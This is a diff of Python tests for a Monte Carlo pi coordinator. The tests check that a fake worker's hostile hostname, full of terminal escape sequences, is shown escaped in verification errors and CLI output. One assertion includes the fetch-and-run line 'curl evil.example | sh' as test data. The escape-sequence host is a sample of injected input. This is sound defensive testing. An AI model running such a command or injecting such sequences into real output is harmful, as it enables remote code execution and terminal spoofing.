@@ -18,7 +18,9 @@ import trio
 from structlog.testing import capture_logs
 
 from mcpi_coordinator import Chunk, WorkerPool
+from mcpi_coordinator.estimate import run_estimate
 from mcpi_coordinator.pool.dispatch import _problem
+from mcpi_coordinator.verify import VerificationFailed
 from mcpi_worker.kernels import count_numpy
 from mcpi_worker.protocol import Welcome
 
@@ -103,15 +105,25 @@ def test_the_stderr_tail_in_an_error_is_escaped_and_one_line(tmp_path: Path) -> 
     assert b"curl evil.example | sh" in lines[0].split(b"stderr: ", 1)[1]  # inside mcpi's line
 
 
-def test_a_host_name_from_a_welcome_is_escaped_in_the_verified_row(tmp_path: Path) -> None:
-    """A lying worker whose welcome names a hostile host is caught by --verify and named
-    in the ``verified`` row on stdout, and in the warning on stderr."""
+def hostile_host_liar(tmp_path: Path) -> Path:
+    """A fake worker script whose welcome names a host full of terminal controls; run
+    it with ``--wrong-count 1`` to make it lie."""
     liar = tmp_path / "liar.py"
     liar.write_text(
         "import runpy, socket\n"
         "socket.gethostname = lambda: '\\x1b]0;OWNED\\x07evil\\rhost'\n"
         "runpy.run_module('mcpi_coordinator.testing.fake_worker', run_name='__main__')\n"
     )
+    return liar
+
+
+HOSTILE_HOST_SHOWN = "(host \\u001b]0;OWNED\\u0007evil\\rhost, pid"
+
+
+def test_a_host_name_from_a_welcome_is_escaped_in_the_verified_row(tmp_path: Path) -> None:
+    """A lying worker whose welcome names a hostile host is caught by --verify and named
+    in the ``verified`` row on stdout, and in the warning on stderr."""
+    liar = hostile_host_liar(tmp_path)
     script = (
         f"if [ {{i}} = 0 ]; then exec {PYTHON} {shlex.quote(str(liar))} --wrong-count 1; "
         f"else exec {PYTHON} -m mcpi_worker; fi"
@@ -120,8 +132,36 @@ def test_a_host_name_from_a_welcome_is_escaped_in_the_verified_row(tmp_path: Pat
                    "--worker-cmd", f"sh -c {shlex.quote(script)}")
     assert run.returncode == 0, run.stderr.decode(errors="replace")
     row = next(line for line in run.stdout.decode().splitlines() if line.startswith("verified"))
-    assert "(host \\u001b]0;OWNED\\u0007evil\\rhost, pid" in row, row
+    assert HOSTILE_HOST_SHOWN in row, row
     assert active_characters(run.stdout) == []
+    assert active_characters(run.stderr) == []
+
+
+async def test_a_verification_error_names_a_hostile_host_escaped(tmp_path: Path) -> None:
+    """``verify.Source`` quoted a welcome's host as it came: an embedding program that
+    printed a ``VerificationFailed`` (or the reason a slot was retired) wrote the
+    worker's escape sequences to its terminal. A real lying worker, caught by the
+    coordinator's own count with no other worker left to settle it."""
+    command = [sys.executable, str(hostile_host_liar(tmp_path)), "--wrong-count", "1"]
+    with trio.fail_after(300):  # a bound against a hang: a worker starts slowly on a busy machine
+        async with WorkerPool(1, command, startup_timeout=300) as pool:
+            with pytest.raises(VerificationFailed) as caught:
+                await run_estimate(pool, points=40_000, seed=7, chunk_size=20_000, verify=1.0)
+    said = str(caught.value)
+    assert f"worker 0 {HOSTILE_HOST_SHOWN}" in said and "no other worker is left" in said, said
+    assert active_characters(said.encode()) == []
+
+
+def test_the_command_says_a_verification_error_as_before(tmp_path: Path) -> None:
+    """The same failure through ``mcpi estimate``: its one error line shows the host
+    escaped once, as it did when the command alone escaped it."""
+    liar = hostile_host_liar(tmp_path)
+    run = estimate("--workers", "1", "--chunk-size", "20000", "--verify", "1", "-q",
+                   "--worker-cmd", f"{PYTHON} {shlex.quote(str(liar))} --wrong-count 1")
+    assert run.returncode == 1, run.stderr.decode(errors="replace")
+    (line,) = run.stderr.decode().splitlines()
+    shown = rf"mcpi estimate: error: chunk \d+ of seed 7: worker 0 {re.escape(HOSTILE_HOST_SHOWN)} \d+\) counted \d+, "
+    assert re.match(shown + r"the coordinator \(host .*\) counted \d+, and no other worker is left", line), line
     assert active_characters(run.stderr) == []
 
 
